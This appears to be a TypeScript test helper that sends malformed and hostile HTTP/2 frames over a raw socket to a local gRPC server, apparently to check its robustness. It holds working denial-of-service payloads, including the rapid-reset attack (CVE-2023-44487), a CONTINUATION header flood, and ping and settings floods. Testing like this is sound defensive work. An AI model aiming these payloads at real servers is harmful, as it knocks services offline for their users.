/** Ill-treats a gRPC connection below the level of calls: broken and hostile HTTP/2 frames over a bare socket. */
import { connect } from "node:net";
import type { Dice } from "./values.ts";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");

const DATA = 0;
const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const PING = 6;
const WINDOW_UPDATE = 8;
const CONTINUATION = 9;
const END_STREAM = 1;
const END_HEADERS = 4;

function h2(type: number, flags: number, stream: number, payload: Buffer, length = payload.length): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream >>> 0, 5);
  return Buffer.concat([head, payload]);
}

/** A header block without compression: POST to a real method. */
function headerBlock(path: string): Buffer {
  const literal = (name: string, value: string) =>
    Buffer.concat([Buffer.from([0, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);
  return Buffer.concat([
    literal(":method", "POST"),
    literal(":scheme", "http"),
    literal(":path", path),
    literal(":authority", "x"),
    literal("content-type", "application/grpc"),
    literal("te", "trailers"),
  ]);
}

const block = headerBlock("/cyxwiz.protocol.JobService/GetJobStatus");
const greeting = Buffer.concat([PREFACE, h2(SETTINGS, 0, 0, Buffer.alloc(0))]);

const ways: Readonly<Record<string, (dice: Dice) => Buffer>> = {
  noise: (dice) => dice.bytes(2000),
  "HTTP/1": () => Buffer.from("POST / HTTP/1.1\r\nhost: x\r\ncontent-length: 99999999\r\n\r\n"),
  "preface and noise": (dice) => Buffer.concat([PREFACE, dice.bytes(500)]),
  // CVE-2023-44487: streams opened and cut at once cost the client nothing.
  "rapid reset": () =>
    Buffer.concat(
      Array.from({ length: 2000 }, (_, index) =>
        Buffer.concat([
          h2(HEADERS, END_HEADERS, index * 2 + 1, block),
          h2(RST_STREAM, 0, index * 2 + 1, Buffer.from([0, 0, 0, 8])),
        ]),
      ),
    ),
  "ping flood": () => Buffer.concat(Array.from({ length: 5000 }, () => h2(PING, 0, 0, Buffer.alloc(8)))),
  "settings flood": () => Buffer.concat(Array.from({ length: 3000 }, () => h2(SETTINGS, 0, 0, Buffer.alloc(0)))),
  // CVE-2024-27983 and its kin: headers that never end.
  "endless headers": () =>
    Buffer.concat([
      h2(HEADERS, 0, 1, block),
      ...Array.from({ length: 500 }, () => h2(CONTINUATION, 0, 1, Buffer.alloc(4000, 0x82))),
    ]),
  "frame longer than allowed": () => h2(DATA, 0, 1, Buffer.alloc(100), 0xff_ffff),
  "data before headers": () => h2(DATA, END_STREAM, 5, Buffer.alloc(10)),
  "data on stream 0": () => h2(DATA, 0, 0, Buffer.alloc(10)),
  "even stream": () => h2(HEADERS, END_HEADERS, 2, block),
  "window overflow": () => h2(WINDOW_UPDATE, 0, 0, Buffer.from([0x7f, 0xff, 0xff, 0xff])),
  "unknown frame": (dice) => h2(200, 255, dice.below(100), dice.bytes(50)),
  "broken header block": (dice) => h2(HEADERS, END_HEADERS | END_STREAM, 1, dice.bytes(60)),
};

export const connectionWays: readonly string[] = Object.keys(ways);

/** Sends it and hangs up when the server does, or after a moment. Never rejects. */
export function attackConnection(port: number, way: string, dice: Dice): Promise<void> {
  const bytes = ways[way]?.(dice) ?? Buffer.alloc(0);
  const greets = way !== "noise" && way !== "HTTP/1" && way !== "preface and noise";
  return new Promise((resolve) => {
    const socket = connect(port, "127.0.0.1", () => socket.write(greets ? Buffer.concat([greeting, bytes]) : bytes));
    socket.setTimeout(300, () => socket.destroy());
    socket.on("data", () => {});
    socket.on("error", () => {});
    socket.on("close", () => resolve());
  });
}
